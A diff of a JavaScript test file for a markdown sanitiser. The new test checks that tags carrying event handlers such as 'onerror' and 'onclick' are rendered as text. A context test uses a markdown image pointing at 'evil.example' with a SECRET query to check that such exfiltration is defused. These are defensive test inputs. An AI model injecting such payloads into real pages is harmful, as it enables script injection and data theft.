@@ -54,6 +54,14 @@ test.each(HOSTILE)("hostile markdown can load, start and pretend nothing: %s", (
   }
 });
 
+test("tags that may not stand are shown as words, those that may are taken without attributes", () => {
+  const made = page('<img src=x onerror=y> H<sub>2</sub>O<br> <kbd class="x">a</kbd>\n\n<div onclick=z>**in**</div>');
+  expect(made.textContent).toContain("<img src=x onerror=y> H2O");
+  expect(made.textContent).toContain('<kbd class="x">a');
+  expect(made.textContent).toContain("<div onclick=z>**in**</div>");
+  expect([...made.querySelectorAll("sub,br,kbd,strong")].map((one) => one.tagName)).toEqual(["SUB", "BR"]);
+});
+
 test("a picture becomes a link that a person may follow", () => {
   const link = page("![totals](https://evil.example/?q=SECRET)").querySelector("a");
   expect(link?.textContent).toBe("image: totals (evil.example)");
